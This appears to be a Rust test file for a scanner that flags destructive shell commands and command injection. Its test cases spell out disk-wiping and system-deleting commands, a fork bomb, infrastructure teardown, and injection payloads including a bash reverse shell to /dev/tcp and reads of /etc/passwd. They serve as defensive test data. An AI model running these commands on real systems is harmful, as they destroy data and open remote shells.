use super::*;

fn rule(line: &str) -> Option<&'static str> {
    let rules = ShellRules::new().unwrap();
    destructive_rule(line, &rules.fork_bomb)
}

#[test]
fn destructive_commands_match_their_rule() {
    let cases = [
        ("sudo rm -rf /", "recursive-delete-system"),
        (
            "rm -rf --no-preserve-root /tmp/x",
            "recursive-delete-system",
        ),
        ("rm -r -f ~/", "recursive-delete-system"),
        ("rm -fr /etc/*", "recursive-delete-system"),
        ("find / -name '*.log' -delete", "recursive-delete-system"),
        ("del /f /s /q C:\\Windows\\*", "recursive-delete-system"),
        (
            "Remove-Item -Recurse -Force C:\\",
            "recursive-delete-system",
        ),
        ("mkfs.ext4 /dev/sda1", "format-disk"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "raw-disk-write"),
        ("cat image.iso > /dev/sdb", "raw-disk-write"),
        (
            "diskutil eraseDisk JHFS+ Untitled /dev/disk2",
            "format-disk",
        ),
        ("format C:", "format-disk"),
        ("sudo shutdown -h now", "host-shutdown"),
        ("systemctl reboot", "host-shutdown"),
        ("kill -9 -1", "kill-all-processes"),
        (":(){ :|:& };:", "fork-bomb"),
        ("redis-cli FLUSHALL", "drop-data-store"),
        ("terraform destroy -auto-approve", "infrastructure-teardown"),
        ("terraform apply -destroy", "infrastructure-teardown"),
        ("kubectl delete namespace prod", "infrastructure-teardown"),
        ("kubectl delete pods --all", "infrastructure-teardown"),
        (
            "aws s3 rm s3://bucket --recursive",
            "infrastructure-teardown",
        ),
        (
            "az group delete --name prod-rg --yes",
            "infrastructure-teardown",
        ),
        ("docker system prune -af", "infrastructure-teardown"),
        ("git push --force origin main", "force-push"),
        ("chmod -R 777 /", "recursive-permissions-system"),
        ("echo '' > /etc/passwd", "truncate-account-file"),
        ("crontab -r", "remove-crontab"),
        ("mv ~/project /dev/null", "move-to-dev-null"),
    ];
    for (line, want) in cases {
        assert_eq!(rule(line), Some(want), "{line}");
    }
}

#[test]
fn ordinary_commands_are_not_destructive() {
    for line in [
        "rm -rf build/",
        "rm notes.txt",
        "grep rm notes.txt",
        "find . -name '*.tmp' -delete",
        "dd if=/dev/zero of=/dev/null count=1",
        "shutdown -c",
        "kubectl delete pod web-1",
        "git push origin main",
        "chmod -R 755 ./public",
        "crontab -l",
        "echo hi >> /etc/hosts.bak",
        "terraform plan",
        "docker image prune",
    ] {
        assert_eq!(rule(line), None, "{line}");
    }
}

#[test]
fn lexer_splits_and_quotes() {
    let cmds = split_commands("echo 'a; b' && rm -rf \"/\" | tee x > /etc/passwd");
    assert_eq!(cmds[0].words, vec!["echo", "a; b"]);
    assert_eq!(cmds[1].words, vec!["rm", "-rf", "/"]);
    assert_eq!(cmds[2].words, vec!["tee", "x"]);
    assert_eq!(cmds[2].truncates, vec!["/etc/passwd"]);
}

#[test]
fn injection_depends_on_field() {
    let rules = ShellRules::new().unwrap();
    let scan = |text: &str, field| {
        let mut out = Vec::new();
        rules.scan(
            text,
            &crate::dangerous::decoded_forms(text),
            field,
            &mut out,
        );
        out.into_iter()
            .find(|f| f.kind == Kind::CommandInjection)
            .map(|f| f.rule)
    };
    assert_eq!(
        scan("; cat /etc/passwd", FieldKind::Other).as_deref(),
        Some("command-chaining")
    );
    assert_eq!(
        scan("| sleep 15", FieldKind::Command).as_deref(),
        Some("command-chaining")
    );
    assert!(scan("report-$(whoami).txt", FieldKind::Other).is_some());
    assert_eq!(
        scan("see `whoami` output", FieldKind::Other).as_deref(),
        Some("command-substitution")
    );
    assert_eq!(
        scan("jira issue ls --assignee $(jira me)", FieldKind::Command),
        None
    );
    assert_eq!(
        scan("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", FieldKind::Command).as_deref(),
        Some("code-execution-payload")
    );
    assert_eq!(
        scan("__import__('os').system('id')", FieldKind::Other).as_deref(),
        Some("code-execution-payload")
    );
    assert_eq!(scan("git log --oneline | head", FieldKind::Command), None);
}
